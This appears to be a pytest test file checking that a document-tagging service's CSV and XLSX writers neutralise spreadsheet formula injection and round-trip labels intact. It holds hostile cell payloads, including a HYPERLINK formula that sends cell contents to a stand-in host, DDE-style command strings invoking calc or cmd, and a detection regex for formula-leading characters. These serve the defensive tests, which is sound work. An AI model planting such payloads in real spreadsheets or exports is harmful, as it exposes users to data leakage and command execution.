"""Formula injection: no cell of any file that is written here is run by a spreadsheet, and our own files read back as they were."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from running import AUTH, running
from test_jobs import until

from policy_themes.batch.result import Outcome, Result, Summary
from policy_themes.batch.writers import writer_for
from policy_themes.documents.facts import Facts
from policy_themes.errors import DocumentError
from policy_themes.tagging.evidence import Span
from policy_themes.tagging.tagger import Tagging, ThemeScore
from training.exchange.cells import restored

# What spreadsheets run, in full width too, behind blanks, or from the next cell on; and what only looks like our own marks.
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "'=",
    "'",
    "''=",
)
RUN = 'HYPERLINK("http://x.example/?"&A1,"看")|\'/C calc\'!A0'
HOSTILE = [f"{start}{RUN}" for start in STARTS]
RISKY = re.compile(r"(?!-?\d+$)(\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])")  # a number may stay one
KINDS = ("csv", "xlsx")


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    folder = tmp_path_factory.mktemp("formulas")
    theme = {"id": "formula", "name": "=1+1", "covers": "@SUM(A1)"}
    with running(folder) as office:
        office.client.post("/codebook/themes", json=theme, headers=AUTH).raise_for_status()
        yield office.client


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def checked(kind: str, data: bytes) -> list[list[str]]:
    """The rows of all sheets as they were before they were made safe, once no cell of them can be run."""
    if kind == "csv":
        rows = csv_rows(data)
        assert [cell for row in rows for cell in row if RISKY.match(cell)] == []
        return [[restored(cell) for cell in row] for row in rows]
    sheets = load_workbook(io.BytesIO(data)).worksheets
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert all(cell.data_type in "sn" for cell in cells)
    return [
        [unescape(str(cell or "")) for cell in row] for sheet in sheets for row in sheet.iter_rows(values_only=True)
    ]


@pytest.mark.parametrize("marks", [False, True])
@pytest.mark.parametrize("kind", KINDS)
def test_labels_come_out_as_text_and_go_in_again_as_they_were(service: httpx.Client, kind: str, marks: bool) -> None:
    said = [
        {"text": f"{one}第{at}段,排查隐患", "themes": ["=1+1"], "annotator": one.strip(), "document": f"{one}.docx"}
        | ({} if re.match("[\t\r\n]", one) else {"source": one})
        for at, one in enumerate(HOSTILE)
    ]
    service.post("/labels", json={"labels": said}, headers=AUTH).raise_for_status()
    asked = {"format": kind, "marks": marks}
    out = service.get("/labels/export", params=asked).raise_for_status().content
    rows = checked(kind, out)
    shown = rows if kind == "csv" else [[restored(cell) for cell in row] for row in rows]
    kept = {one["text"] for one in service.get("/labels", params={"limit": 100, "theme": "formula"}).json()["items"]}
    assert len(kept) == len(HOSTILE)
    assert kept <= {cell for row in shown for cell in row}
    assert "=1+1" in {cell for row in shown for cell in row}
    sent = {"file": (f"labels.{kind}", out)}
    job = service.post("/labels/imports", files=sent, data={"preview": "true"}, headers=AUTH).raise_for_status().json()
    address = f"/labels/imports/{job['id']}"
    until(lambda: service.get(address).json()["state"] not in ("waiting", "running"))
    ended = service.get(address).json()
    assert ended["state"] == "done", ended
    report = ended["report"]
    assert (report["new"], report["faults"]) == (0, []), report


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_tagged_comes_out_as_text(service: httpx.Client, kind: str) -> None:
    text = "\n".join(f"{at}.{one}排查消防隐患。" for at, one in enumerate(HOSTILE, 1))
    for name in ("=cmd|' 看'!A0.txt", "\uff1d甲.txt", "@乙.txt", "-丙.txt"):
        sent = {"file": (name, f"=某县工作要点\n{text}\n{HOSTILE[0]}\n+{text}\n".encode())}
        told = service.post("/desk/results", files=sent).raise_for_status().json()
        answer = service.get(f"{told['url']}/download.{kind}").raise_for_status()
        rows = checked(kind, answer.content)
        assert any(told["name"] in row for row in rows)
        assert f'filename="result.{kind}"' in answer.headers["content-disposition"]


@pytest.mark.parametrize("kind", KINDS)
def test_the_writers_of_folders_and_tables_write_text(tmp_path: Path, kind: str) -> None:
    written = tmp_path / f"out.{kind}"
    with writer_for(written, f".{kind}", ["=主题", "@乙"]) as write:
        for one in HOSTILE:
            score = ThemeScore("=id", "=主题", 0.9, (Span(0, len(one), one),))
            columns = {"=列": one, "text": one, "\uff20列": [one], "number": -1}
            failed = DocumentError(one, one, where=one)
            results = (Result(one, columns, Tagging((score,))), Result(one, columns, None, failed))
            facts = Facts(title=one, issuer=one, number=one, date=one, year=2024)
            write(Outcome(results, (Summary(one, facts, {}, (one,)),), (failed,)))
    rows = checked(kind, written.read_bytes())
    assert {row[1] for row in rows[1 : 2 * len(HOSTILE) + 1]} == set(HOSTILE)
    assert rows[0][:3] == ["=列", "text", "\uff20列"]


def test_the_command_writes_text_from_a_table_of_formulas(
    run_command: Callable[..., subprocess.CompletedProcess[bytes]], tmp_path: Path
) -> None:
    table = tmp_path / "in.jsonl"
    lines = [json.dumps({"text": f"{one}排查隐患", "=note": one}) for one in HOSTILE]
    table.write_text("\n".join(lines), "utf-8")
    for kind in KINDS:
        out = tmp_path / f"out.{kind}"
        done = run_command("tag", table, "-o", out)
        assert done.returncode == 0, done.stderr.decode()
        assert "=note" in checked(kind, out.read_bytes())[0]


@given(st.text(st.sampled_from("=+-@'\t\r\n \u3000\uff1d\uff0b\uff0d\uff20甲,\"json:"), max_size=8))
@example('\'json:"甲"')
def test_any_text_in_a_cell_of_csv_is_text_and_is_found_again(text: str) -> None:
    from policy_themes.batch.cells import inert

    assert not RISKY.match(inert(text))
    assert restored(inert(text)) == text
